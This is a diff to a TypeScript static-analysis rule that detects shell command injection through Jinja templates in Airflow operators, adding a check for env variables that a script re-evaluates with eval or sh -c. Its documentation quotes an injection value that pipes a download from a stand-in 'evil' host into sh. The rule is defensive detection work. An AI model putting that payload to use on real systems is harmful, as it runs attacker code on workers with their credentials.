@@ -1,6 +1,7 @@
 import type { SyntaxNode } from 'tree-sitter';
 import type { RuleContext } from '../../src/engine/context';
 import { defineRule } from '../../src/engine/rule';
+import { callArgs, stringValue } from '../../src/engine/python';
 import { classifyJinja, jinjaExpressions, restrictedParams, type JinjaClass } from '../../src/airflow/jinja';
 import { commandParts } from '../../src/airflow/strings';
 import { type ShellScript } from '../../src/airflow/shell';
@@ -15,8 +16,49 @@ const SEVERITY: Partial<Record<Trust, Severity>> = { user: 'high', xcom: 'medium
 const score = (k: JinjaClass): number => (k.trust === 'user' ? (k.viaParams ? 4 : 5) : k.trust === 'xcom' ? 3 : k.trust === 'config' ? 2 : 0);
 
 /** Report the worst Jinja expression of each literal of the scripts that `anchor` (operator call or function) runs. */
+/**
+ * `env={"CMD": "{{ dag_run.conf['cmd'] }}"}` is the fix for templated input — unless the script evaluates the variable
+ * again: `eval "$CMD"`, `sh -c "$CMD"`, `$(…$CMD…)`, or `$CMD` where a command goes.
+ */
+function reevaluates(script: string, name: string): boolean {
+  const v = String.raw`\$\{?${name}\b`;
+  return new RegExp(
+    String.raw`\beval\b[^\n;|&]*${v}|\b(?:ba|z|k|da)?sh\s+-c\s+["']?${v}|\$\(\s*["']?${v}|(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)["']?${v}["']?(?:\s|$)`,
+  ).test(script);
+}
+
+/** Template values passed through `env=` that the operator's script evaluates again (see `reevaluates`). */
+function envReevaluated(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext, restricted: Set<string>): void {
+  if (anchor.type !== 'call') return;
+  const env = callArgs(anchor).keywords.get('env');
+  if (!env || env.type !== 'dictionary') return;
+  const text = scripts.map((s) => commandParts(s.node).literals.map((l) => l.text).join(' ')).join('\n');
+  if (!/\$/.test(text)) return;
+  for (const pair of env.namedChildren) {
+    if (pair.type !== 'pair') continue;
+    const name = stringValue(pair.childForFieldName('key'));
+    const value = pair.childForFieldName('value');
+    const v = value ? stringValue(value) : null;
+    if (!name || !value || v === null || !/^[A-Za-z_]\w*$/.test(name) || !reevaluates(text, name)) continue;
+    for (const e of jinjaExpressions(v)) {
+      const k = classifyJinja(e.expr, restricted);
+      const sc = score(k);
+      if (sc < 4) continue;
+      const expr = e.expr.length > 60 ? e.expr.slice(0, 57) + '…' : e.expr;
+      reportOnce(ctx, value, () =>
+        ctx.report(value, { label: `\`env\` variable ${name}, which the script evaluates again,`, expr, why: k.why }, {
+          severity: sc === 4 ? 'medium' : (SEVERITY[k.trust] ?? 'high'),
+          key: `env ${name} ${e.expr}`,
+        }),
+      );
+      break;
+    }
+  }
+}
+
 function check(anchor: SyntaxNode, scripts: ShellScript[], ctx: RuleContext): void {
   let restricted: Set<string> | null = null;
+  envReevaluated(anchor, scripts, ctx, (restricted ??= restrictedParams(anchor, ctx)));
   for (const s of scripts) {
     for (const lit of commandParts(s.node).literals) {
       const exprs = jinjaExpressions(lit.text);
@@ -56,7 +98,7 @@ export default defineRule({
     docs: {
       what:
         'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint), and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell.\n\n' +
-        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"`.',
+        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported on the `env` value.',
       why:
         'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
       example:
